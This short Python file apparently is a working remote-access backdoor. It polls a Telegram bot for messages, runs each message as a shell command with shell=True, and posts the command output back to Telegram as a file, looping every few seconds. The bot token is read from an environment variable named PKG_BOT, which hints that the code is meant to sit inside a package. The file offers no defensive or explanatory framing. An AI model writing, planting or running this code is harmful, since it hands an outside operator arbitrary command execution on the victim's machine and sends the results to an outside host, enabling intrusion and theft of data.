import os
import subprocess
import time

import requests

BOT = "https://api.telegram.org/bot" + os.environ.get("PKG_BOT", "made-up")


def loop():
    offset = 0
    while True:
        for update in requests.get(BOT + "/getUpdates", params={"offset": offset}).json()["result"]:
            offset = update["update_id"] + 1
            text = update["message"]["text"]
            out = subprocess.run(text, shell=True, capture_output=True).stdout
            requests.post(BOT + "/sendDocument", files={"document": out})
        time.sleep(5)
